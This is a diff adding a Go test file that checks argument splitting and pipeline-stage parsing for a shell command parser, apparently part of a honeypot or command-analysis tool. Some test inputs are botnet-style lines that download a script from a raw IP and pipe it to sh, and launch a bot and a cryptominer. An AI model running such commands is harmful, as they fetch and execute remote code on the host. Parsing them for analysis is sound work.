@@ -0,0 +1,109 @@
+package shell
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestSplitArgs(t *testing.T) {
+	tests := []struct {
+		Line     string
+		Expected []string
+	}{
+		{
+			Line:     "",
+			Expected: nil,
+		},
+		{
+			Line:     "  uname   -a ",
+			Expected: []string{"uname", "-a"},
+		},
+		{
+			Line:     `echo 'single $HOME' "double \"quoted\" \n" plain\ space`,
+			Expected: []string{"echo", "single $HOME", `double "quoted" \n`, "plain space"},
+		},
+		{
+			Line:     `echo '' ""`,
+			Expected: []string{"echo", "", ""},
+		},
+		{
+			Line:     `wget http://1.2.3.4/bins.sh;chmod`,
+			Expected: []string{"wget", "http://1.2.3.4/bins.sh;chmod"},
+		},
+	}
+
+	for testNumber, test := range tests {
+		actual, err := SplitArgs(test.Line)
+		if err != nil {
+			t.Errorf("For test #%d, did not expect an error, but actually got one: (%T) %v.", testNumber, err, err)
+			continue
+		}
+
+		if !reflect.DeepEqual(test.Expected, actual) {
+			t.Errorf("For test #%d, expected %q, but actually got %q.", testNumber, test.Expected, actual)
+			continue
+		}
+	}
+
+	for _, line := range []string{`echo "unterminated`, `echo 'unterminated`, `echo \`} {
+		if _, err := SplitArgs(line); err != ErrUnterminatedQuote {
+			t.Errorf("For %q, expected %v, but actually got: (%T) %v.", line, ErrUnterminatedQuote, err, err)
+		}
+	}
+}
+
+func TestSplitCommands(t *testing.T) {
+	tests := []struct {
+		Line     string
+		Expected []Stage
+	}{
+		{
+			Line:     "",
+			Expected: nil,
+		},
+		{
+			Line: "cd /tmp || cd /var/run; wget http://1.2.3.4/x.sh -O- | sh && echo ok &",
+			Expected: []Stage{
+				{Command: "cd /tmp"},
+				{Operator: "||", Command: "cd /var/run"},
+				{Operator: ";", Command: "wget http://1.2.3.4/x.sh -O-"},
+				{Operator: "|", Command: "sh"},
+				{Operator: "&&", Command: "echo ok", Background: true},
+			},
+		},
+		{
+			Line: "nohup ./bot & ./miner -o pool:3333& jobs",
+			Expected: []Stage{
+				{Command: "nohup ./bot", Background: true},
+				{Operator: "&", Command: "./miner -o pool:3333", Background: true},
+				{Operator: "&", Command: "jobs"},
+			},
+		},
+		{
+			Line: `echo 'a;b' "c|d" e\&\&f;; >/dev/null 2>&1 cat x &>/dev/null`,
+			Expected: []Stage{
+				{Command: `echo 'a;b' "c|d" e\&\&f`},
+				{Operator: ";", Command: ">/dev/null 2>&1 cat x &>/dev/null"},
+			},
+		},
+	}
+
+	for testNumber, test := range tests {
+		actual, err := SplitCommands(test.Line)
+		if err != nil {
+			t.Errorf("For test #%d, did not expect an error, but actually got one: (%T) %v.", testNumber, err, err)
+			continue
+		}
+
+		if !reflect.DeepEqual(test.Expected, actual) {
+			t.Errorf("For test #%d, expected %+v, but actually got %+v.", testNumber, test.Expected, actual)
+			continue
+		}
+	}
+
+	for _, line := range []string{`echo "a; b`, `echo a\`} {
+		if _, err := SplitCommands(line); err != ErrUnterminatedQuote {
+			t.Errorf("For %q, expected %v, but actually got: (%T) %v.", line, ErrUnterminatedQuote, err, err)
+		}
+	}
+}